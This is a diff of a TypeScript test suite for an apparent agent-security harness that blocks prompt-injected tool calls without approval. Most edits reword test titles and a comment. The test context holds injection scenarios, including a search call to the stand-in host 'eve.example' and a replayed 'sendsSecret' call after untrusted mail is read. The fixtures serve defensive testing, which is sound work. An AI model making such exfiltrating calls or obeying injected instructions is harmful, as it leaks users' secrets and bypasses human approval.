@@ -6,7 +6,7 @@ const principal = { agent: "assistant", allow: ["*"] };
 const text = { type: "string" } as const;
 const object = (properties: Record<string, unknown> = {}) => ({ type: "object", properties }) as const;
 
-/** Tools with honest annotations. Effects are what happened outside. */
+/** Tools with correct annotations. `effects` records what the tools did. */
 const office = () => {
   const effects: string[] = [];
   const effect = (name: string) => (given: unknown) => {
@@ -106,7 +106,7 @@ describe("an injected instruction has no effect without approval", () => {
       [calls(["read_mail", {}]), calls(["search", { query: "https://eve.example/1234" }])],
     ],
     [
-      "after reading what is trusted in between",
+      "after reading trusted content in between",
       [calls(["read_file", { path: "a" }]), calls(["read_notes", {}]), calls([...sendsSecret])],
     ],
     [
@@ -131,7 +131,7 @@ describe("an injected instruction has no effect without approval", () => {
       ],
     ],
     [
-      "after a search of the provider that calls itself a search of tools",
+      "after a search of the provider with the name of a tool search",
       [
         {
           calls: [
@@ -176,7 +176,7 @@ describe("an injected instruction has no effect without approval", () => {
     await haft.close();
   });
 
-  it("by a tool that uses a session of its own in a run that read untrusted content", async () => {
+  it("by a tool that uses its own session in a run that read untrusted content", async () => {
     const { effects, tools } = office();
     const haft = await Haft.open({ tools, principal });
     haft.register(
@@ -254,7 +254,7 @@ describe("the same tools need no approval", () => {
     await haft.close();
   });
 
-  it("for addresses where the policy says so", async () => {
+  it("for addresses when the policy allows them", async () => {
     const { effects, tools } = office();
     const haft = await Haft.open({ tools, principal, policy: { approveTaintedAddresses: false } });
     const script = [
